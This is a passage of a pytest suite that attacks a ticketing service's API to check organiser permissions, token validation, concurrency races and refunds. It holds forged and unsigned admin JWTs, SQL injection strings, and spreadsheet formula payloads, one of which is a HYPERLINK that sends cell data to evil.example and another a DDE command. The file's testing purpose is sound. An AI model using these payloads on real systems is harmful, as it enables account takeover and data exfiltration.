"""Red team on the organiser's controls and on accounts, black-box over HTTP against the real
servers: a scalper, a fraudster, a curious user and a malicious organiser attack show edits,
deletion, seat blocks and GA capacity, roles and tokens, posters, reports, reschedules and
deactivation. Each test is one attack and says what must hold."""

from __future__ import annotations

import base64
import csv
import io
import json
import socket
import threading
import time
import xml.etree.ElementTree as ET
from collections.abc import Callable, Iterator
from concurrent.futures import ThreadPoolExecutor
from datetime import UTC, datetime, timedelta
from functools import partial
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit
from uuid import UUID, uuid4

import httpx
import jwt
import pytest
from PIL import Image

from audit.verify import verify
from commands.models import ScheduleShow
from domain.booking import CANCELLED, CONFIRMED, Booking
from domain.show import Show
from tests.conftest import TEST_JWT_SECRET
from tests.e2e.conftest import Api, served
from tests.e2e.saga_support import (
    VISA,
    SagaSystem,
    in_days,
    intents_of,
    pay_with_stripe,
    refunds_of,
    running_system,
    stripe_client,
    wait_until,
)
from ticketblitz.bootstrap import bootstrap
from ticketblitz.embedded import StackEndpoints

pytestmark = pytest.mark.integration

PROBLEM = "application/problem+json"
PRICE = 4500
Who = dict[str, str]


@pytest.fixture(scope="module")
def system(endpoints: StackEndpoints, stack_dir: Path) -> Iterator[SagaSystem]:
    """Its own database, app, read models and workers (the saga, deactivation, notices)."""
    with running_system(endpoints, stack_dir / "organiser-attacks", read_models=True) as started:
        yield started


@pytest.fixture(scope="module")
def owner(system: SagaSystem) -> Who:
    return system.api.new_account("organizer")


@pytest.fixture(scope="module")
def rival(system: SagaSystem) -> Who:
    return system.api.new_account("organizer")


# --- helpers ---


def auth(who: Who) -> dict[str, str]:
    return {"Authorization": who["Authorization"]}


def bearer(token: str) -> dict[str, str]:
    return {"Authorization": f"Bearer {token}"}


def problem_type(r: httpx.Response) -> str:
    assert r.headers["content-type"].startswith(PROBLEM), (r.status_code, r.text)
    kind: str = r.json()["type"]
    return kind.rsplit("/", 1)[-1]


def show_body(
    starts_at: datetime | None = None, general: int = 20, **changes: Any
) -> dict[str, Any]:
    return {
        "title": f"Attacked night {uuid4().hex[:6]}",
        "description": "Two sets.",
        "category": "jazz",
        "venue": "Blue Hall",
        "starts_at": (starts_at or in_days(30)).isoformat(),
        "currency": "EUR",
        "price_tiers": [
            {"code": "STD", "price_cents": PRICE},
            {"code": "FLOOR", "price_cents": 3000},
        ],
        "sections": [
            {
                "code": "A",
                "kind": "seated",
                "tier": "STD",
                "rows": [{"label": "1", "seats": 10}, {"label": "2", "seats": 10}],
            },
            {"code": "GA", "kind": "general", "tier": "FLOOR", "capacity": general},
        ],
        **changes,
    }


def new_show(api: Api, by: Who, open_sale: bool = True, **body: Any) -> str:
    r = api.http.post("/shows", json=show_body(**body), headers=auth(by))
    assert r.status_code == 201, r.text
    show_id: str = r.json()["show_id"]
    if open_sale:
        r = api.http.post(f"/shows/{show_id}/open-sale", headers=auth(by))
        assert r.status_code == 200, r.text
    return show_id


def hold(api: Api, fan: Who, show_id: str, **request: Any) -> httpx.Response:
    body = {"show_id": show_id, **(request or {"quantity": 1})}
    return api.http.post("/bookings", json=body, headers=auth(fan))


def held(api: Api, fan: Who, show_id: str, **request: Any) -> dict[str, Any]:
    r = hold(api, fan, show_id, **request)
    assert r.status_code == 201, r.text
    booking: dict[str, Any] = r.json()
    return booking


def pay(api: Api, fan: Who, booking_id: str) -> httpx.Response:
    """Pay with a card once the saga created the booking's intent (503 until then)."""

    def attempt() -> httpx.Response | None:
        r = api.http.post(
            f"/bookings/{booking_id}/pay", json={"payment_method": VISA}, headers=auth(fan)
        )
        return None if r.status_code == 503 else r

    return wait_until(attempt, 30, f"booking {booking_id}'s payment intent")


def head_position(api: Api) -> int:
    position: int = httpx.get(f"{api.server_url}/health", timeout=30).json()["position"]
    return position


def versions(system: SagaSystem, show_id: str) -> tuple[int, int]:
    """The show's and its inventory's versions: unchanged means nothing was written."""
    return system.store.get(UUID(show_id), Show).version, system.inventory(show_id).version


def at_once(*calls: Callable[[], httpx.Response]) -> list[httpx.Response]:
    """Run the calls in threads released together by a barrier; their answers, in order."""
    barrier = threading.Barrier(len(calls))

    def run(call: Callable[[], httpx.Response]) -> httpx.Response:
        barrier.wait(timeout=30)
        return call()

    with ThreadPoolExecutor(max_workers=len(calls)) as pool:
        return list(pool.map(run, calls))


def png(width: int = 8, height: int = 8) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (width, height), (200, 30, 30)).save(out, "PNG")
    return out.getvalue()


def forged(account_id: str, secret: str = TEST_JWT_SECRET, **claims: Any) -> str:
    now = datetime.now(UTC)
    payload = {"sub": account_id, "role": "admin", "gen": 0, "iat": now, **claims}
    payload.setdefault("iss", "ticketblitz")  # the server's issuer and audience (infra/tokens.py)
    payload.setdefault("aud", "ticketblitz-api")
    payload.setdefault("exp", now + timedelta(minutes=10))
    return jwt.encode(payload, secret, algorithm="HS256")


# --- a malicious organiser against another organiser's show ---


def managed_calls(show_id: str) -> list[tuple[str, str, dict[str, Any]]]:
    """Every organiser control of a show, as (method, path, request keywords)."""
    return [
        ("PATCH", f"/shows/{show_id}", {"json": {"title": "Hijacked"}}),
        (
            "PATCH",
            f"/shows/{show_id}",
            {"json": {"price_tiers": [{"code": "STD", "price_cents": 1}]}},
        ),
        ("PATCH", f"/shows/{show_id}", {"json": {"starts_at": in_days(2).isoformat()}}),
        ("DELETE", f"/shows/{show_id}", {}),
        ("POST", f"/shows/{show_id}/open-sale", {}),
        ("POST", f"/shows/{show_id}/close-sale", {}),
        ("POST", f"/shows/{show_id}/cancel", {"json": {"reason": "not mine"}}),
        ("POST", f"/shows/{show_id}/seats/block", {"json": {"seats": ["A-1-1"], "reason": "x"}}),
        ("POST", f"/shows/{show_id}/seats/unblock", {"json": {"seats": ["A-1-2"]}}),
        ("PUT", f"/shows/{show_id}/sections/GA/capacity", {"json": {"capacity": 0}}),
        (
            "PUT",
            f"/shows/{show_id}/poster",
            {"content": png(), "headers": {"Content-Type": "image/png"}},
        ),
        ("DELETE", f"/shows/{show_id}/poster", {}),
    ]


def reports(show_id: str, after: int) -> list[str]:
    return [
        f"/shows/{show_id}/attendees.csv?after={after}",
        f"/shows/{show_id}/sales?bucket=day&after={after}",
    ]


def call(api: Api, who: Who, method: str, path: str, request: dict[str, Any]) -> httpx.Response:
    headers = {**request.get("headers", {}), **auth(who)}
    rest = {k: v for k, v in request.items() if k != "headers"}
    return api.http.request(method, path, headers=headers, **rest)


def test_an_organiser_cannot_touch_another_organisers_show_nor_its_bookings(
    system: SagaSystem, owner: Who, rival: Who
):
    api = system.api
    show_id = new_show(api, owner)
    fan = api.new_customer()
    booking = held(api, fan, show_id, seats=["A-1-3"])
    before = versions(system, show_id)

    for method, path, request in managed_calls(show_id):
        r = call(api, rival, method, path, request)
        assert r.status_code == 403, (method, path, r.text)
        assert problem_type(r) == "forbidden"
    for path in reports(show_id, booking["position"]):
        r = api.http.get(path, headers=auth(rival))
        assert r.status_code == 403, (path, r.text)
    # Nor the bookings of their show: neither cancel them nor read them.
    r = api.http.post(
        f"/bookings/{booking['booking_id']}/cancel",
        headers={**auth(rival), "Idempotency-Key": str(uuid4())},
    )
    assert r.status_code == 403, r.text
    r = api.http.get(
        f"/bookings/{booking['booking_id']}",
        params={"after": booking["position"]},
        headers=auth(rival),
    )
    assert r.status_code in (403, 404), r.text

    assert versions(system, show_id) == before
    assert system.booking(booking["booking_id"]).status != CANCELLED


def test_an_organiser_cannot_put_a_show_in_someone_elses_name(
    system: SagaSystem, owner: Who, rival: Who
):
    api = system.api
    r = api.http.post(
        "/shows", json=show_body(organizer_id=rival["account_id"]), headers=auth(owner)
    )
    if r.status_code == 201:  # the field is ignored: the caller runs the show
        show = system.store.get(UUID(r.json()["show_id"]), Show)
        assert show.organizer_id == UUID(owner["account_id"])
        show_id = r.json()["show_id"]
    else:
        assert r.status_code == 422, r.text
        show_id = new_show(api, owner)
    for body in ({"organizer_id": rival["account_id"]}, {"organizer_id": None}):
        r = api.http.patch(f"/shows/{show_id}", json=body, headers=auth(owner))
        assert r.status_code == 422, r.text
    assert system.store.get(UUID(show_id), Show).organizer_id == UUID(owner["account_id"])
    r = api.http.patch(f"/shows/{show_id}", json={"title": "Mine"}, headers=auth(rival))
    assert r.status_code == 403, r.text


def test_a_show_scheduled_before_organisers_is_managed_by_admins_only(
    system: SagaSystem, owner: Who
):
    api = system.api
    body = ScheduleShow.model_validate(show_body())
    scheduled = system.container.shows.schedule_show(body, None, None)  # no organiser
    show_id, position = str(scheduled.show_id), scheduled.position
    before = versions(system, show_id)

    for method, path, request in managed_calls(show_id):
        r = call(api, owner, method, path, request)
        assert r.status_code == 403, (method, path, r.text)
    for path in reports(show_id, position):
        r = api.http.get(path, headers=auth(owner))
        assert r.status_code == 403, (path, r.text)
    assert versions(system, show_id) == before

    admin = api.admin()
    r = api.http.patch(f"/shows/{show_id}", json={"venue": "Admin Hall"}, headers=admin)
    assert r.status_code == 200, r.text
    for path in reports(show_id, r.json()["position"]):
        assert api.http.get(path, headers=admin).status_code == 200, path


def test_a_deleted_shows_id_takes_no_command_and_no_report(
    system: SagaSystem, owner: Who, rival: Who
):
    api = system.api
    show_id = new_show(api, owner)
    r = api.http.delete(f"/shows/{show_id}", headers=auth(owner))
    assert r.status_code == 204, r.text
    deleted_at = versions(system, show_id)
    position = head_position(api)

    for who in (owner, rival):
        for method, path, request in managed_calls(show_id):
            r = call(api, who, method, path, request)
            assert r.status_code == 404, (method, path, r.text)
            assert problem_type(r) == "not-found"
        for path in reports(show_id, position):
            r = api.http.get(path, headers=auth(who))
            assert r.status_code == 404, (path, r.text)
    r = hold(api, api.new_customer(), show_id)
    assert r.status_code == 409, r.text
    assert problem_type(r) == "sale-not-open"
    assert versions(system, show_id) == deleted_at


def test_ids_of_other_aggregates_are_no_shows(system: SagaSystem, owner: Who):
    """An account's, a booking's or an inventory's id used as a show id: 404, never a 500."""
    api = system.api
    show_id = new_show(api, owner)
    fan = api.new_customer()
    booking = held(api, fan, show_id)
    inventory_id = str(system.inventory(show_id).id)
    admin = api.admin()
    for foreign in (owner["account_id"], booking["booking_id"], inventory_id):
        for method, path, request in managed_calls(foreign):
            r = call(api, {"Authorization": admin["Authorization"]}, method, path, request)
            assert r.status_code == 404, (method, path, r.text)
        r = api.http.get(f"/shows/{foreign}/poster")
        assert r.status_code == 404, r.text


# --- roles: escalation and tokens ---


def test_registering_with_an_admin_role_in_the_body_makes_a_customer(system: SagaSystem):
    api = system.api
    email = f"sneaky-{uuid4().hex[:10]}@example.com"
    r = api.http.post(
        "/auth/register",
        json={
            "email": email,
            "password": "correct horse battery",
            "name": "Sneaky",
            "role": "admin",
            "active": True,
            "session_generation": 7,
        },
    )
    assert r.status_code in (201, 422), r.text
    if r.status_code == 422:
        return  # refusing the unknown fields is as good
    token = api.token_for(email, "correct horse battery")
    me = api.http.get("/me", headers=bearer(token)).json()
    assert me["role"] == "customer"
    assert api.http.get("/admin/accounts", headers=bearer(token)).status_code == 403
    r = api.http.post("/shows", json=show_body(), headers=bearer(token))
    assert r.status_code == 403, r.text


def test_patch_me_changes_the_name_only(system: SagaSystem):
    api = system.api
    fan = api.new_customer()
    for body in (
        {"name": "Me", "role": "admin"},
        {"role": "admin"},
        {"email": "admin@tests.ticketblitz.dev"},
        {"name": "Me", "active": True},
        {"name": "Me", "account_id": str(uuid4())},
    ):
        r = api.http.patch("/me", json=body, headers=auth(fan))
        assert r.status_code == 422, (body, r.text)
    me = api.http.get("/me", headers=auth(fan)).json()
    assert (me["role"], me["email"], me["name"]) == ("customer", fan["email"], "Fan")


def test_a_tokens_claims_are_never_believed(system: SagaSystem, owner: Who):
    api = system.api
    fan = api.new_customer()
    target = api.new_customer()
    admin_only: list[tuple[str, str, dict[str, Any]]] = [
        ("GET", "/admin/accounts", {}),
        ("GET", f"/admin/accounts/{target['account_id']}", {}),
        ("POST", f"/admin/accounts/{fan['account_id']}/role", {"json": {"role": "admin"}}),
        ("POST", f"/admin/accounts/{target['account_id']}/deactivate", {}),
    ]
    # Signed with the real secret (a token of before a demotion): the role claim is ignored.
    says_admin = {"Authorization": f"Bearer {forged(fan['account_id'])}"}
    for method, path, request in admin_only:
        r = api.http.request(method, path, headers=says_admin, **request)
        assert r.status_code == 403, (method, path, r.text)
    r = api.http.post("/shows", json=show_body(), headers=says_admin)
    assert r.status_code == 403, r.text
    # Not signed by us, no algorithm, a generation the account never had, no such account,
    # the id of something that is no account: refused as no token at all.
    unsigned = (
        ".".join(
            base64.urlsafe_b64encode(json.dumps(part).encode()).decode().rstrip("=")
            for part in (
                {"alg": "none", "typ": "JWT"},
                {"sub": fan["account_id"], "role": "admin", "exp": int(time.time()) + 3600},
            )
        )
        + "."
    )
    show_id = new_show(api, owner)
    for token in (
        forged(fan["account_id"], secret="x" * 40),
        unsigned,
        forged(fan["account_id"], gen=1),
        forged(fan["account_id"], gen=-1),
        forged(fan["account_id"], gen="0"),
        forged(str(uuid4())),
        forged(show_id),
        forged(fan["account_id"], exp=datetime.now(UTC) - timedelta(seconds=5)),
    ):
        for method, path, request in [("GET", "/me", {}), *admin_only]:
            r = api.http.request(method, path, headers=bearer(token), **request)
            assert r.status_code == 401, (token, method, path, r.text)
            assert problem_type(r) == "unauthorized"
    assert api.http.get("/me", headers=auth(target)).json()["active"] is True
    assert api.http.get("/me", headers=auth(fan)).json()["role"] == "customer"


def test_a_demoted_organisers_old_token_manages_nothing(system: SagaSystem):
    api = system.api
    admin = api.admin()
    organiser = api.new_account("organizer")
    show_id = new_show(api, organiser)
    r = api.http.post(
        f"/admin/accounts/{organiser['account_id']}/role", json={"role": "customer"}, headers=admin
    )
    assert r.status_code == 200, r.text
    demoted_at = r.json()["position"]
    before = versions(system, show_id)

    for method, path, request in managed_calls(show_id):
        r = call(api, organiser, method, path, request)
        assert r.status_code == 403, (method, path, r.text)
    for path in reports(show_id, demoted_at):
        r = api.http.get(path, headers=auth(organiser))
        assert r.status_code == 403, (path, r.text)
    assert versions(system, show_id) == before


def test_a_demoted_admins_old_token_is_no_admin_on_either_api(system: SagaSystem):
    api = system.api
    second_admin = api.new_account("admin")
    fan = api.new_customer()
    assert api.http.get("/admin/accounts", headers=auth(second_admin)).status_code == 200
    r = api.http.post(
        f"/admin/accounts/{second_admin['account_id']}/role",
        json={"role": "customer"},
        headers=api.admin(),
    )
    assert r.status_code == 200, r.text

    calls: list[tuple[str, str, dict[str, Any]]] = [
        ("GET", f"/admin/accounts?after={r.json()['position']}", {}),
        ("GET", f"/admin/accounts/{fan['account_id']}", {}),
        ("POST", f"/admin/accounts/{fan['account_id']}/deactivate", {}),
        ("POST", f"/admin/accounts/{second_admin['account_id']}/role", {"json": {"role": "admin"}}),
        ("GET", f"/admin/streams/{fan['account_id']}/events", {}),
    ]
    for method, path, request in calls:
        r = api.http.request(method, path, headers=auth(second_admin), **request)
        assert r.status_code == 403, (method, path, r.text)
    assert api.http.get("/me", headers=auth(second_admin)).json()["role"] == "customer"
    assert api.http.get("/me", headers=auth(fan)).json()["active"] is True


def everywhere(api: Api, who: Who, show_id: str, booking_id: str) -> list[httpx.Response]:
    """A signed-in call on each API: command, query, reports, admin."""
    return [
        api.http.get("/me", headers=auth(who)),
        api.http.patch("/me", json={"name": "Ghost"}, headers=auth(who)),
        api.http.get(f"/bookings/{booking_id}", headers=auth(who)),
        api.http.get("/me/bookings", headers=auth(who)),
        api.http.get(f"/shows/{show_id}/sales", headers=auth(who)),
        api.http.get(f"/shows/{show_id}/attendees.csv", headers=auth(who)),
        hold(api, who, show_id),
        api.http.post(
            f"/bookings/{booking_id}/pay", json={"payment_method": VISA}, headers=auth(who)
        ),
    ]


def test_an_old_token_is_dead_after_a_password_change_and_after_a_deactivation(
    system: SagaSystem, owner: Who
):
    api = system.api
    show_id = new_show(api, owner)
    # A password change: the old token dies on every API, the new one lives.
    fan = api.new_customer()
    booking = held(api, fan, show_id)
    r = api.http.post(
        "/me/password",
        json={"current": "correct horse battery", "new": "another horse battery"},
        headers=auth(fan),
    )
    assert r.status_code == 200, r.text
    fresh = bearer(r.json()["access_token"])
    for answer in everywhere(api, fan, show_id, booking["booking_id"]):
        assert answer.status_code == 401, (answer.request.url, answer.text)
    assert api.http.get("/me", headers=fresh).status_code == 200
    # A deactivation (of an organiser, whose reports are at stake): dead on every API, and
    # still dead once reactivated; only a new login opens the account again.
    organiser = api.new_account("organizer")
    own_show = new_show(api, organiser)
    admin = api.admin()
    r = api.http.post(f"/admin/accounts/{organiser['account_id']}/deactivate", headers=admin)
    assert r.status_code == 200, r.text
    for answer in everywhere(api, organiser, own_show, booking["booking_id"]):
        assert answer.status_code == 401, (answer.request.url, answer.text)
    r = api.http.post(f"/admin/accounts/{organiser['account_id']}/reactivate", headers=admin)
    assert r.status_code == 200, r.text
    r = api.http.patch(f"/shows/{own_show}", json={"title": "Back"}, headers=auth(organiser))
    assert r.status_code == 401, r.text
    token = api.token_for(organiser["email"], "correct horse battery")
    r = api.http.patch(f"/shows/{own_show}", json={"title": "Back"}, headers=bearer(token))
    assert r.status_code == 200, r.text


def test_logging_in_does_not_tell_who_is_deactivated_without_the_password(system: SagaSystem):
    api = system.api
    active, deactivated = api.new_customer(), api.new_customer()
    r = api.http.post(
        f"/admin/accounts/{deactivated['account_id']}/deactivate", headers=api.admin()
    )
    assert r.status_code == 200, r.text

    answers = [
        api.http.post("/auth/token", json={"email": email, "password": "wrong password!"})
        for email in (active["email"], deactivated["email"], f"nobody-{uuid4().hex}@example.com")
    ]

    shapes = {
        (a.status_code, a.json()["type"], a.json()["title"], a.json()["detail"]) for a in answers
    }
    assert len(shapes) == 1, shapes
    assert answers[0].status_code == 401
    assert problem_type(answers[0]) == "invalid-credentials"
    r = api.http.post(
        "/auth/token", json={"email": deactivated["email"], "password": "correct horse battery"}
    )
    assert r.status_code == 401
    assert problem_type(r) == "account-deactivated"


def test_the_admins_account_search_takes_sql_wildcards_literally(system: SagaSystem):
    api = system.api
    marker = uuid4().hex[:8]
    r = api.http.post(
        "/auth/register",
        json={
            "email": f"odd-{marker}@example.com",
            "password": "correct horse battery",
            "name": f"100%_sure\\{marker}",
        },
    )
    assert r.status_code == 201, r.text
    position = r.json()["position"]
    admin = api.admin()
    for q in ("%", "_", "%_", "\\", "%%", "_%_", "' OR 1=1 --", "%' OR '1'='1"):
        r = api.http.get(
            "/admin/accounts", params={"q": q, "limit": 100, "after": position}, headers=admin
        )
        assert r.status_code == 200, (q, r.text)
        for item in r.json()["items"]:
            assert q.lower() in item["email"].lower() or q.lower() in item["name"].lower(), (
                q,
                item,
            )
    r = api.http.get("/admin/accounts", params={"q": f"%_sure\\{marker}"}, headers=admin)
    assert [i["email"] for i in r.json()["items"]] == [f"odd-{marker}@example.com"]


# --- money: repricing, capacity, blocks, deletion against holds in flight ---


def test_a_hold_pays_what_it_said_while_the_organiser_reprices(system: SagaSystem, owner: Who):
    api = system.api
    show_id = new_show(api, owner)
    prices = [6000, 0, 100, 9900, 0, PRICE]
    fans = [api.new_customer() for _ in range(12)]
    seats = [f"A-{1 + n // 10}-{1 + n % 10}" for n in range(len(fans))]

    def reprice(cents: int) -> Callable[[], httpx.Response]:
        body = {"price_tiers": [{"code": "STD", "price_cents": cents}]}
        return lambda: api.http.patch(f"/shows/{show_id}", json=body, headers=auth(owner))

    holds = [
        partial(hold, api, fan, show_id, seats=[seat])
        for fan, seat in zip(fans, seats, strict=True)
    ]
    answers = at_once(*holds, *(reprice(c) for c in prices))

    for r in answers[len(holds) :]:
        assert r.status_code == 200, r.text
    bookings = []
    for r, fan in zip(answers[: len(holds)], fans, strict=True):
        assert r.status_code == 201, r.text
        said = r.json()["amount_cents"]
        assert said in {PRICE, *prices}
        stored = system.booking(r.json()["booking_id"])
        assert stored.amount_cents == said
        bookings.append((r.json()["booking_id"], fan, said))
    # A hold at a price, then a repricing to 0: the hold still pays its price, never 0.
    early_fan = api.new_customer()
    r = api.http.patch(
        f"/shows/{show_id}",
        json={"price_tiers": [{"code": "STD", "price_cents": 7000}]},
        headers=auth(owner),
    )
    assert r.status_code == 200, r.text
    early = held(api, early_fan, show_id, seats=["A-2-9"])
    r = api.http.patch(
        f"/shows/{show_id}",
        json={"price_tiers": [{"code": "STD", "price_cents": 0}]},
        headers=auth(owner),
    )
    assert r.status_code == 200, r.text
    assert early["amount_cents"] == 7000
    for booking_id, fan, said in [*bookings[:3], (early["booking_id"], early_fan, 7000)]:
        if said == 0:
            continue
        r = pay(api, fan, booking_id)
        assert r.status_code == 200, r.text
        paid = system.booking(booking_id)
        assert (paid.status, paid.amount_cents, paid.paid_cents) == (CONFIRMED, said, said)


def test_lowering_ga_capacity_while_fans_hold_never_oversells(system: SagaSystem, owner: Who):
    api = system.api
    show_id = new_show(api, owner, general=12)
    fans = [api.new_customer() for _ in range(12)]

    def capacity(n: int) -> Callable[[], httpx.Response]:
        return lambda: api.http.put(
            f"/shows/{show_id}/sections/GA/capacity", json={"capacity": n}, headers=auth(owner)
        )

    answers = at_once(
        *(partial(hold, api, fan, show_id, section="GA", quantity=1) for fan in fans),
        *(capacity(n) for n in (6, 4, 9, 3)),
    )

    holds, changes = answers[: len(fans)], answers[len(fans) :]
    for r in holds:
        assert r.status_code in (201, 409), r.text
    for r in changes:
        assert r.status_code in (200, 409), r.text
        if r.status_code == 409:
            assert problem_type(r) == "capacity-below-taken"
    ga = system.inventory(show_id).general["GA"]
    assert ga.taken == sum(r.status_code == 201 for r in holds)
    assert ga.taken <= ga.capacity
    rules = {"ga-capacity-below-taken", "blocked-seat-held-or-sold"}
    assert [str(v) for v in verify(system.store).violations if v.rule in rules] == []


def test_blocking_a_seat_while_a_fan_holds_it_lets_exactly_one_win(system: SagaSystem, owner: Who):
    api = system.api
    show_id = new_show(api, owner)
    seats = [f"A-1-{n}" for n in range(1, 9)]
    fans = [api.new_customer() for _ in seats]
    calls: list[Callable[[], httpx.Response]] = []
    for seat, fan in zip(seats, fans, strict=True):
        calls.append(partial(hold, api, fan, show_id, seats=[seat]))
        calls.append(
            partial(
                api.http.post,
                f"/shows/{show_id}/seats/block",
                json={"seats": [seat], "reason": "camera position"},
                headers=auth(owner),
            )
        )

    answers = at_once(*calls)

    inventory = system.inventory(show_id)
    for n, seat in enumerate(seats):
        held_r, block_r = answers[2 * n], answers[2 * n + 1]
        assert held_r.status_code in (201, 409), held_r.text
        assert block_r.status_code in (200, 409), block_r.text
        assert (held_r.status_code == 201) != (block_r.status_code == 200), (
            seat,
            held_r.text,
            block_r.text,
        )
        if block_r.status_code == 200:
            assert block_r.json()["blocked"] == [seat]
            assert seat in inventory.blocked and seat not in inventory.holder
        else:
            assert problem_type(block_r) == "seats-unavailable"
            assert seat in inventory.holder and seat not in inventory.blocked


def test_a_delete_racing_the_first_hold_never_both_succeed(system: SagaSystem, owner: Who):
    api = system.api
    for _ in range(6):
        show_id = new_show(api, owner)
        fan = api.new_customer()
        deleted, first = at_once(
            partial(api.http.delete, f"/shows/{show_id}", headers=auth(owner)),
            partial(hold, api, fan, show_id, seats=["A-1-1"]),
        )
        show = system.store.get(UUID(show_id), Show)
        if deleted.status_code == 204:
            assert first.status_code == 409, first.text
            assert problem_type(first) == "sale-not-open"
            assert show.status == "deleted"
            assert not system.inventory(show_id).holder
        else:
            assert deleted.status_code == 409, deleted.text
            assert problem_type(deleted) == "cancel-instead"
            assert first.status_code == 201, first.text
            assert show.status != "deleted"


def test_a_reschedule_to_the_past_is_refused_and_one_to_now_ends_the_refunds(
    system: SagaSystem, owner: Who
):
    api = system.api
    show_id = new_show(api, owner)
    for when in (
        datetime.now(UTC) - timedelta(minutes=1),
        datetime.now(UTC) - timedelta(days=400),
        datetime(2000, 1, 1, tzinfo=UTC),
    ):
        r = api.http.patch(
            f"/shows/{show_id}", json={"starts_at": when.isoformat()}, headers=auth(owner)
        )
        assert r.status_code == 422, r.text
        assert problem_type(r) == "invalid-show"
    payer, holder = api.new_customer(), api.new_customer()
    paid = held(api, payer, show_id, seats=["A-1-1"])
    assert pay(api, payer, paid["booking_id"]).status_code == 200
    unpaid = held(api, holder, show_id, seats=["A-1-2"])
    wait_until(
        lambda: (
            intents_of(stripe_client(system.endpoints), [unpaid["booking_id"]])[
                unpaid["booking_id"]
            ]
            or None
        ),
        30,
        "the unpaid hold's intent",
    )

    soon = datetime.now(UTC) + timedelta(seconds=3)
    r = api.http.patch(
        f"/shows/{show_id}", json={"starts_at": soon.isoformat()}, headers=auth(owner)
    )
    assert r.status_code == 200, r.text
    wait_until(lambda: datetime.now(UTC) > soon + timedelta(seconds=1), 30, "the new start")

    # Past the start: no cancellation for a refund, no payment, no more edits.
    r = api.http.post(
        f"/bookings/{paid['booking_id']}/cancel",
        headers={**auth(payer), "Idempotency-Key": str(uuid4())},
    )
    assert r.status_code == 409, r.text
    r = api.http.post(
        f"/bookings/{unpaid['booking_id']}/pay", json={"payment_method": VISA}, headers=auth(holder)
    )
    assert r.status_code in (402, 409), r.text
    r = api.http.patch(
        f"/shows/{show_id}", json={"starts_at": in_days(3).isoformat()}, headers=auth(owner)
    )
    assert r.status_code == 409, r.text
    assert problem_type(r) == "illegal-transition"
    assert system.booking(paid["booking_id"]).status == CONFIRMED
    assert system.booking(paid["booking_id"]).refunded_cents == 0
    late = wait_until(
        partial(refunded_whole, system, unpaid["booking_id"]), 60, "no money kept after the start"
    )
    assert late.status != CONFIRMED


# --- deactivation racing holds and payments ---


def test_holds_racing_a_deactivation_are_all_released(system: SagaSystem, owner: Who):
    api = system.api
    show_id = new_show(api, owner)
    scalper = api.new_customer()
    admin = api.admin()
    calls: list[Callable[[], httpx.Response]] = [
        partial(hold, api, scalper, show_id, seats=[seat])
        for seat in ("A-2-1", "A-2-2", "A-2-3", "A-2-4", "A-2-5", "A-2-6")
    ]
    calls.insert(
        3,
        lambda: api.http.post(f"/admin/accounts/{scalper['account_id']}/deactivate", headers=admin),
    )

    answers = at_once(*calls)

    assert answers[3].status_code == 200, answers[3].text
    placed = [r.json()["booking_id"] for r in answers if r.status_code == 201]
    for r in answers:
        assert r.status_code in (200, 201, 401), r.text
    for booking_id in placed:
        booking = system.wait_for_status(booking_id, [CANCELLED], 60)
        assert booking.paid_cents == 0
    wait_until(
        lambda: not any(system.inventory(show_id).claim_of(UUID(b)) is not None for b in placed),
        60,
        "the scalper's seats back on sale",
    )


def test_a_payment_landing_after_the_deactivation_is_refunded(system: SagaSystem, owner: Who):
    api = system.api
    show_id = new_show(api, owner)
    fraudster = api.new_customer()
    booking = held(api, fraudster, show_id, seats=["A-2-8"])
    client = stripe_client(system.endpoints)
    intents = wait_until(
        lambda: intents_of(client, [booking["booking_id"]])[booking["booking_id"]] or None,
        30,
        "the booking's intent",
    )
    r = api.http.post(f"/admin/accounts/{fraudster['account_id']}/deactivate", headers=api.admin())
    assert r.status_code == 200, r.text
    system.wait_for_status(booking["booking_id"], [CANCELLED], 60)

    pay_with_stripe(system.endpoints, intents[0].id)  # the browser still had the intent

    wait_until(lambda: refunds_of(client, intents[0].id) or None, 60, "the late payment refunded")
    final = system.booking(booking["booking_id"])
    assert final.status != CONFIRMED
    assert sum(r.amount for r in refunds_of(client, intents[0].id)) == booking["amount_cents"]
    assert system.inventory(show_id).claim_of(UUID(booking["booking_id"])) is None


def intents_for(client: Any, booking_id: str) -> list[Any] | None:
    return intents_of(client, [booking_id])[booking_id] or None


def refunded_whole(system: SagaSystem, booking_id: str) -> Booking | None:
    booking = system.booking(booking_id)
    return booking if booking.refunded_cents == booking.paid_cents else None


def test_a_payment_racing_the_deactivation_is_kept_whole_or_refunded_whole(
    system: SagaSystem, owner: Who
):
    """Paid first: the booking stays the customer's, paid in full. Released first: whatever
    was charged is refunded in full. Never a confirmed booking refunded, nor money kept for a
    released one."""
    api = system.api
    show_id = new_show(api, owner)
    admin = api.admin()
    client = stripe_client(system.endpoints)
    for seat in ("A-2-9", "A-2-10"):
        fan = api.new_customer()
        booking = held(api, fan, show_id, seats=[seat])
        booking_id = booking["booking_id"]
        wait_until(partial(intents_for, client, booking_id), 30, "the booking's intent")

        paid, deactivated = at_once(
            partial(
                api.http.post,
                f"/bookings/{booking_id}/pay",
                json={"payment_method": VISA},
                headers=auth(fan),
            ),
            partial(
                api.http.post, f"/admin/accounts/{fan['account_id']}/deactivate", headers=admin
            ),
        )

        assert deactivated.status_code == 200, deactivated.text
        assert paid.status_code in (200, 401, 409), paid.text
        final = system.wait_for_status(booking_id, [CONFIRMED, CANCELLED], 60)
        if final.status == CONFIRMED:
            assert (final.paid_cents, final.refunded_cents) == (booking["amount_cents"], 0)
        else:
            settled = wait_until(
                partial(refunded_whole, system, booking_id), 60, "whatever was charged refunded"
            )
            assert settled.status != CONFIRMED
            assert system.inventory(show_id).claim_of(UUID(booking_id)) is None


# --- reports: CSV injection and absurd ranges ---


def test_formulas_in_names_and_emails_reach_the_csv_as_text(system: SagaSystem, owner: Who):
    api = system.api
    show_id = new_show(api, owner)
    names = [
        '=HYPERLINK("http://evil.example/?"&A1,"click")',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(A1:A9)",
        "=1+1",
    ]
    tokens: list[Who] = []
    for n, name in enumerate(names):
        local = "=cmd" if n == 0 else f"f{uuid4().hex[:8]}"
        email = f"{local}{uuid4().hex[:6]}@example.com"
        r = api.http.post(
            "/auth/register",
            json={"email": email, "password": "correct horse battery", "name": name},
        )
        assert r.status_code == 201, r.text
        tokens.append({"Authorization": f"Bearer {api.token_for(email, 'correct horse battery')}"})
    last = 0
    for n, fan in enumerate(tokens):
        last = held(api, fan, show_id, seats=[f"A-1-{n + 1}"])["position"]
    r = api.http.post(
